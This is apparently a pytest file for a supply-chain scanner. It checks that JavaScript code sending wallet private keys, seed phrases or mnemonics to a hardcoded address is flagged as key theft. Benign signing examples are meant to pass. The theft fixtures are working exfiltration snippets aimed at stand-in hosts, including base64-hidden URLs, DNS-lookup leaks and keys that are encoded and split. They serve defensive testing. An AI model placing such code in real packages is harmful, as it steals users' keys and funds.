"""JavaScript: a signing key that goes to an address in the code is seen, even where nothing calls; signing is not."""

from __future__ import annotations

import pytest

from gatekeeper.model import Severity, When
from tests.support.javascript import does, findings, read_js

A = "https://files.example/a"
WALLET = "class Wallet { static fromSeed(seed) { return deriveKeypair(seed) } }\n"
THEFT = {
    "a header": WALLET + f"exports.check = seed => {{ fetch('{A}', {{method: 'POST', headers: {{'ad-referral': seed}}}}) }}",
    "pieces of it, encoded": f"""
function addToQueue(e) {{
  const t = bs58.encode(e);
  fetch('{A}', {{headers: {{a: t.substring(0, 24).split('').reverse().join('')}}}});
}}
class Keypair {{ static fromSecretKey(secretKey) {{ addToQueue(secretKey); return new Keypair(); }} }}
exports.Keypair = Keypair;
""",
    "a query": f"exports.f = wallet => require('https').get('{A}?k=' + encodeURIComponent(wallet.privateKey))",
    "parameters of an address": f"exports.f = privateKey => {{ const u = new URL('{A}'); u.searchParams.set('a', privateKey); fetch(u) }}",
    "what was derived": f"exports.f = m => {{ const {{privateKey}} = m.derive(); require('axios').post('{A}', {{k: Buffer.from(privateKey).toString('hex')}}) }}",
    "a request that is written to": f"exports.f = mnemonic => {{ const r = require('https').request('{A}', {{method: 'POST'}}); r.write(JSON.stringify({{mnemonic}})); r.end() }}",
    "a request's header": f"exports.f = seedPhrase => {{ const r = require('https').request('{A}'); r.setHeader('x-a', seedPhrase); r.end() }}",
    "a hidden address": "exports.f = mnemonic => { const x = new XMLHttpRequest(); x.open('POST', atob('aHR0cHM6Ly9maWxlcy5leGFtcGxlL2E=')); x.send(mnemonic) }",
    "a form": f"exports.f = privateKey => {{ const f = new FormData(); f.append('a', privateKey); fetch('{A}', {{method: 'POST', body: f}}) }}",
    "a lookup": "exports.f = privateKey => require('dns').lookup(privateKey + '.a.example')",
    "an encrypted key": f"exports.f = privateKey => fetch('{A}', {{method: 'POST', body: seal.encrypt(privateKey)}})",
    "a method": f"class Signer {{ constructor(o) {{ this.privateKey = o.privateKey }} sign(m) {{ fetch('{A}', {{method: 'POST', body: this.privateKey}}) }} }} exports.S = Signer",
}  # fmt: skip


@pytest.mark.parametrize("way", THEFT)
def test_a_key_that_is_sent_is_seen_where_nothing_calls(way: str) -> None:
    ledger = read_js(THEFT[way], {}, When.IMPORT, always=False)
    found = [one for one in findings(ledger) if one.check == "key-theft"]
    assert found, list(ledger.behaviours.values())
    assert {one.severity for one in found} == {Severity.HIGH}
    assert found[0].when is When.CALL


def test_a_key_that_is_sent_on_import() -> None:
    code = f"const w = require('ethers').Wallet.createRandom(); fetch('{A}', {{method: 'POST', body: w.privateKey}})"
    ledger = read_js(code, {}, When.IMPORT, always=False)
    assert [one.when for one in findings(ledger) if one.check == "key-theft"] == [When.IMPORT]


HONEST = {
    "what was signed": f"exports.f = (m, privateKey) => {{ const signature = sign(m, privateKey); fetch('{A}', {{method: 'POST', body: JSON.stringify({{signature, publicKey: getPublicKey(privateKey)}})}}) }}",
    "what our own code signed": f"function sign(m, privateKey) {{ let r = 0; for (const b of privateKey) r = r * 7 + b * m; return r }} exports.f = (m, privateKey) => fetch('{A}', {{method: 'POST', body: '' + sign(m, privateKey)}})",
    "a public key": WALLET + f"exports.f = keypair => fetch('{A}?k=' + keypair.publicKey)",
    "an address of a wallet": f"exports.f = privateKey => {{ const w = new (require('ethers').Wallet)(privateKey); return fetch('{A}?a=' + w.address) }}",
    "a token": f"exports.f = privateKey => fetch('{A}', {{headers: {{Authorization: 'Bearer ' + require('jsonwebtoken').sign({{a: 1}}, privateKey)}}}})",
    "a caller's address": "exports.f = (privateKey, o) => fetch(o.url, {method: 'POST', body: privateKey})",
    "an address with a default": f"exports.f = (privateKey, o) => fetch(o.url || '{A}', {{method: 'POST', body: privateKey}})",
    "a host with a default": "exports.f = (privateKey, o) => { const r = require('https').request({host: o.host || 'files.example'}); r.end(privateKey) }",
    "a node on this machine": "exports.f = privateKey => fetch('http://127.0.0.1:8545', {method: 'POST', body: privateKey})",
    "a service's own key": f"class C {{ constructor(secretKey) {{ this.secretKey = secretKey }} pay() {{ return fetch('{A}', {{headers: {{a: this.secretKey}}}}) }} }} exports.C = C",
    "a login": f"class C {{ constructor(o) {{ this.privateKey = o.privateKey }} pay() {{ return fetch('{A}', {{headers: {{Authorization: 'Basic ' + btoa(this.privateKey)}}}}) }} }} exports.C = C",
    "a random start": f"exports.f = (prompt, seed) => fetch('{A}', {{method: 'POST', body: JSON.stringify({{prompt, seed}})}})",
}  # fmt: skip


@pytest.mark.parametrize("way", HONEST)
def test_a_key_that_only_signs_is_left_alone(way: str) -> None:
    ledger = read_js(HONEST[way], {}, When.IMPORT)
    assert does(ledger, "network") or does(ledger, "send")
    assert not [one for one in findings(ledger) if one.severity >= Severity.MEDIUM]
